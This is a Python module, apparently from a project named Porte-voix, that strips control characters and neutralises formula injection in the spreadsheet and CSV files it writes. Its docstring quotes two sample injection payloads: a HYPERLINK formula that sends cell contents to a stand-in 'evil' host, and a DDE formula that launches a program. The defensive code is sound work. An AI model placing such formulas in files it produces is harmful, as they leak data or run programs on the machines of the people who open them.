"""Text that leaves Porte-voix in a file someone opens: spreadsheets, slides, charts, PDF.

Two dangers, one module:

* **Control characters.** A C0 control character (U+0000–U+001F but TAB, LF and CR) is not allowed
  in XML: openpyxl refuses the cell, vl-convert refuses the chart, and PostgreSQL refuses a NUL.
  :func:`clean_text` takes them out of one text, :func:`clean_data` out of every text of a value
  (dicts, lists, tuples, dataclasses: a chart spec, a report document, a JSON document).
* **Formula injection.** A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a
  TAB or a CR as a formula (``=HYPERLINK("http://evil/?"&A3,…)`` sends neighbouring cells away,
  ``=cmd|' /C calc'!A0`` runs a program through DDE). Text from users is therefore written as text:
  in a CSV with an apostrophe in front (what Excel itself does when one types ``'=…``), in a
  workbook as a text cell marked "quote prefix" (shown exactly as typed, never evaluated). A real
  number (``-12``, ``-3,5``) stays a number. The formulas Porte-voix writes itself (the business
  case's workbook) are :class:`SheetFormula` values: the only way to write a formula.

Every XLSX and CSV writer goes through :func:`append_row` / :func:`set_cell` / :func:`csv_text`
(``tests/core/test_cells.py`` checks that no other module writes them).
"""

from __future__ import annotations

import csv
import dataclasses
import datetime
import io
import re
from collections.abc import Iterable
from dataclasses import dataclass
from decimal import Decimal
from typing import Any, TypeVar

# C0 controls but TAB (09), LF (0A) and CR (0D); U+FFFE/U+FFFF are not characters at all (XML
# refuses them too).
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A number as people type it (``-12``, ``+3.5``, ``-3,5``, ``-1e3``): a spreadsheet reads it as a
# number, never as a formula, so it is left as it is.
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")

T = TypeVar("T")


@dataclass(frozen=True)
class SheetFormula:
    """A formula Porte-voix writes itself, e.g. ``SheetFormula("=SUM(D3:D7)")``.

    Never build one from user text: it is written as a formula, unlike every ``str``.
    """

    text: str

    def __post_init__(self) -> None:
        if not self.text.startswith("="):
            raise ValueError(f"a formula starts with '=': {self.text!r}")


CellValue = str | int | float | Decimal | bool | datetime.date | datetime.datetime | SheetFormula | None


def clean_text(text: str) -> str:
    """``text`` without C0 control characters (TAB, LF and CR stay: they mean something)."""
    return CONTROLS.sub("", text)


def clean_data(value: T) -> T:
    """``value`` with :func:`clean_text` applied to every text in it, keys included (a copy).

    Walks dicts, lists, tuples and dataclass instances; anything else is returned as it is.
    """
    return _clean(value)  # type: ignore[no-any-return]


def _clean(value: Any) -> Any:
    if isinstance(value, str):
        return clean_text(value)
    if isinstance(value, dict):
        return {_clean(key): _clean(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_clean(item) for item in value]
    if isinstance(value, tuple):
        return tuple(_clean(item) for item in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {f.name: _clean(getattr(value, f.name)) for f in dataclasses.fields(value) if f.init}
        return dataclasses.replace(value, **changes)
    return value


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (a plain number is not one)."""
    return text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text)


def neutralised(text: str) -> str:
    """``text`` cleaned, with an apostrophe in front when a spreadsheet would run it as a formula."""
    text = clean_text(text)
    return "'" + text if looks_like_formula(text) else text


# -- Workbooks (openpyxl) ------------------------------------------------------------------------


def set_cell(sheet: Any, row: int, column: int, value: CellValue) -> Any:
    """Write ``value`` into the cell at ``row``, ``column`` of an openpyxl sheet; returns the cell."""
    cell = sheet.cell(row, column)
    _assign(cell, value)
    return cell


def append_row(sheet: Any, values: Iterable[CellValue] = ()) -> None:
    """``sheet.append(values)``, with user text kept as text and formulas only from :class:`SheetFormula`."""
    values = list(values)
    sheet.append([None] * len(values) if values else [])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if value is not None:
            _assign(sheet.cell(row, column), value)


def sheet_title(title: str) -> str:
    """A sheet name: no control character, at most the 31 characters Excel allows."""
    return clean_text(title)[:31]


def _assign(cell: Any, value: CellValue) -> None:
    if isinstance(value, SheetFormula):
        cell.value = value.text
        return
    if isinstance(value, str):
        text = clean_text(value)
        cell.value = text
        if looks_like_formula(text):
            # openpyxl would store "=…" as a formula: a text cell with Excel's quote prefix is
            # shown exactly as typed and is never evaluated.
            cell.data_type = "s"
            cell.quotePrefix = True
        return
    cell.value = value


# -- CSV -------------------------------------------------------------------------------------------


def csv_text(rows: Iterable[Iterable[CellValue]], *, delimiter: str = ";", bom: bool = True) -> str:
    """The rows as CSV text, every text cell :func:`neutralised`; ``bom`` for Excel's sake (UTF-8)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    for row in rows:
        writer.writerow([_csv_value(value) for value in row])
    return ("\ufeff" if bom else "") + buffer.getvalue()


def _csv_value(value: CellValue) -> object:
    if isinstance(value, SheetFormula):
        raise TypeError("a CSV file holds values, not formulas")
    if isinstance(value, str):
        return neutralised(value)
    return "" if value is None else value
